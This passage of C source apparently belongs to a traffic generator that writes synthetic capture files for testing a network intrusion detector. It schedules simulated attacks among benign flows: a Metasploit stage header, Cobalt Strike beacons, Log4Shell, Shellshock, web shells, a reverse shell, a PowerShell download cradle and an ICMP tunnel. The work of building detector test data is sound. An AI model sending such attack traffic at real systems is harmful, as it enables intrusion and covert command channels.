    /* A 4-byte little-endian length, as Metasploit sends before a stage. */
    static const uint8_t head[] =
        "\xb0\x04\x00\x00MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff";
    memcpy(stage, head, sizeof(head) - 1);
    n = 0x50;
    memcpy(stage + n, "This program cannot be run in DOS mode.\r\r\n$", 44);
    n = 0x84;
    memcpy(stage + n, "PE\x00\x00\x64\x86\x06\x00", 8);
    demo_fill(d, stage + 0x100, 0x300);
    n = 0x400;
    memcpy(stage + n, "metsrv.x64.dll\x00ReflectiveLoader\x00", 32);
    n += 32;
    demo_fill(d, stage + n, sizeof(stage) - n);
    m[0] = (struct msg){PKTGEN_TO_CLIENT, stage, sizeof(stage)};
    demo_tcp(d, "10.1.20.44", "1.128.0.1", 4444, m, 1);
}

static void demo_ptunnel(struct demo *d)
{
    struct kanshi_addr s = demo_addr(d, "10.1.20.70"), t = demo_addr(d, "203.0.113.200");
    uint8_t data[28 + 24];

    if (d->err != 0)
        return;
    memset(data, 0, sizeof(data));
    memcpy(data, "\xd5\x20\x08\x80", 4);      /* ptunnel magic */
    memcpy(data + 4, "\xc6\x33\x64\x16", 4);  /* tunnel target 198.51.100.22 */
    memcpy(data + 8, "\x00\x00\x00\x16", 4);  /* port 22 */
    memcpy(data + 12, "\x00\x00\x00\x01", 4); /* state: data */
    memcpy(data + 20, "\x00\x00\x00\x18", 4); /* data length 24 */
    memcpy(data + 28, "SSH-2.0-OpenSSH_9.6\r\n\x00\x00\x00", 24);
    demo_fail(d, pktgen_icmp_echo(d->g, &s, &t, 0x1d2c, 1, data, sizeof(data), true), "ptunnel");
    d->flows++;
}

static void demo_syn_only(struct demo *d, const char *cli, const char *srv, uint16_t port)
{
    /* A connection that is opened and closed without data (a probe, or a
     * blocked SMB/RDP session seen before the firewall drops it). */
    demo_tcp(d, cli, srv, port, NULL, 0);
}

static int cmd_demo(const char *out)
{
    struct demo d;
    unsigned i;
    int rc;

    memset(&d, 0, sizeof(d));
    d.rng = 0x6b616e73; /* "kans" */
    d.eph = 49152;
    if ((rc = pktgen_open(&d.g, out)) != 0) {
        log_warnx("%s: %s", out, kanshi_strerror(rc));
        return 1;
    }

    for (i = 0; i < 60 && d.err == 0; i++) {
        demo_benign(&d, i);
        /* A Cobalt Strike beacon checks in every minute from 09:01 on. */
        if (i >= 6 && i % 6 == 0)
            demo_tcp(&d, "10.1.20.37", "89.160.20.112", 80, atk_cs_get, 2);
        switch (i) {
        case 3:
            demo_tcp(&d, "81.2.69.160", "192.168.10.80", 80, atk_shellshock, 2);
            break;
        case 5:
            demo_tcp(&d, "2.125.160.216", "192.168.10.80", 80, atk_log4shell_ua, 2);
            demo_tcp(&d, "192.168.10.80", "198.51.100.66", 1389, atk_ldap_ref, 4);
            break;
        case 7:
            demo_tcp(&d, "192.168.10.80", "198.51.100.66", 9001, atk_linux_shell,
                     KANSHI_ARRAY_LEN(atk_linux_shell));
            break;
        case 9:
            demo_tcp(&d, "1.128.0.1", "192.168.10.80", 80, atk_log4shell_uri, 2);
            demo_tcp(&d, "2001:db8:bad::66", "2001:db8:10::80", 80, atk_log4shell_v6, 2);
            break;
        case 11:
            demo_sip_log4shell(&d);
            break;
        case 12:
            demo_tcp(&d, "10.1.20.23", "81.2.69.160", 21, atk_ftp, KANSHI_ARRAY_LEN(atk_ftp));
            break;
        case 15:
            demo_tcp(&d, "89.160.20.112", "192.168.10.80", 80, atk_apache_traversal, 2);
            break;
        case 14:
            demo_tcp(&d, "81.2.69.160", "192.168.10.80", 80, atk_traversal, 2);
            break;
        case 17:
            demo_tcp(&d, "67.43.156.1", "192.168.10.80", 80, atk_sqli, 2);
            break;
        case 19:
            demo_tcp(&d, "10.1.20.37", "198.51.100.77", 80, atk_ps_cradle, 2);
            demo_tcp(&d, "10.1.20.37", "198.51.100.77", 80, atk_ps_stage, 2);
            break;
        case 22:
            demo_tcp(&d, "2.125.160.216", "192.168.10.80", 80, atk_upload, 2);
            break;
        case 24:
            /* The beacon sends its first task output. */
            demo_tcp(&d, "10.1.20.37", "89.160.20.112", 80, atk_cs_post, 2);
            break;
        case 25:
            demo_tcp(&d, "2.125.160.216", "192.168.10.80", 80, atk_chopper, 2);
            demo_tcp(&d, "2.125.160.216", "192.168.10.80", 80, atk_cmd, 2);
            break;
        case 28:
            demo_tcp(&d, "10.1.20.31", "216.160.83.56", 80, atk_basic, 2);
            break;
        case 30:
            demo_meterpreter(&d);
            demo_tcp(&d, "10.1.20.44", "1.128.0.1", 4444, atk_cmd_banner, 3);
            break;
        case 33:
            demo_tcp(&d, "67.43.156.1", "192.168.10.80", 80, atk_wso, 2);
            break;
        case 36:
            demo_tcp(&d, "10.1.20.52", "81.2.69.160", 8000, atk_gh0st, 2);
            break;
        case 38:
            demo_tcp(&d, "10.1.20.58", "89.160.20.112", 5552, atk_njrat, 2);
            break;
        case 41:
            demo_tcp(&d, "10.1.20.61", "67.43.156.1", 110, atk_pop3, KANSHI_ARRAY_LEN(atk_pop3));
            break;
        case 43:
            demo_tcp(&d, "10.1.20.12", "67.43.156.1", 143, atk_imap, KANSHI_ARRAY_LEN(atk_imap));
            break;
        case 44:
            demo_tcp(&d, "10.1.20.70", "203.0.113.23", 23, atk_telnet,
                     KANSHI_ARRAY_LEN(atk_telnet));
            break;
        case 47:
            demo_dns(&d, "10.1.20.88", "192.168.10.53", "pool.supportxmr.com", "203.0.113.77");
            demo_tcp(&d, "10.1.20.88", "203.0.113.77", 3333, atk_xmrig, 2);
            demo_tcp(&d, "10.1.20.88", "203.0.113.77", 3333, atk_stratum, 4);
            break;
        case 50:
            demo_syn_only(&d, "10.1.20.15", "198.51.100.99", 445);
            break;
        case 52:
            demo_syn_only(&d, "67.43.156.1", "192.168.10.15", 3389);
            break;
        case 55:
            demo_ptunnel(&d);
            break;
        default:
            break;
        }
        /* About ten seconds between slices. */
        pktgen_sleep(d.g, 8000000 + demo_rand(&d) % 4000000);
    }

    if (d.err != 0) {
        log_warnx("demo: %s: %s", d.what != NULL ? d.what : "?", kanshi_strerror(d.err));
        pktgen_close(d.g);
        unlink(out);
        return 1;
    }
    printf("%s: %llu packets, %u flows\n", out, (unsigned long long)pktgen_count(d.g), d.flows);
    if ((rc = pktgen_close(d.g)) != 0) {
        log_warnx("%s: %s", out, kanshi_strerror(rc));
        unlink(out);
        return 1;
    }
    return 0;
}

int main(int argc, char **argv)
{
    static const struct option longopts[] = {
        {"help", no_argument, NULL, 'h'},
        {"version", no_argument, NULL, 'V'},
        {NULL, 0, NULL, 0},
    };
    const char *section = NULL;
    int c;

    log_init("kanshi-pktgen", LOG_LEVEL_INFO);
    /* "+": stop at the command word; its own options are parsed after it. */
    while ((c = getopt_long(argc, argv, "+h", longopts, NULL)) != -1) {
        switch (c) {
        case 'h':
            usage(stdout);
            return 0;
        case 'V':
            printf("kanshi-pktgen %s\n", KANSHI_VERSION);
            return 0;
        default:
            usage(stderr);
            return 2;
        }
    }
    argc -= optind;
    argv += optind;
    if (argc < 1) {
        usage(stderr);
        return 2;
    }
    if (strcmp(argv[0], "demo") == 0) {
        if (argc != 2) {
            usage(stderr);
            return 2;
        }
        return cmd_demo(argv[1]);
    }
    if (strcmp(argv[0], "spec") == 0) {
        optind = 1;
        while ((c = getopt(argc, argv, "s:")) != -1) {
            if (c != 's') {
                usage(stderr);
                return 2;
            }
            section = optarg;
        }
        if (argc - optind != 2) {
            usage(stderr);
            return 2;
        }
        return cmd_spec(section, argv[optind], argv[optind + 1]);
    }
    log_warnx("unknown command '%s'", argv[0]);
    usage(stderr);
    return 2;
}
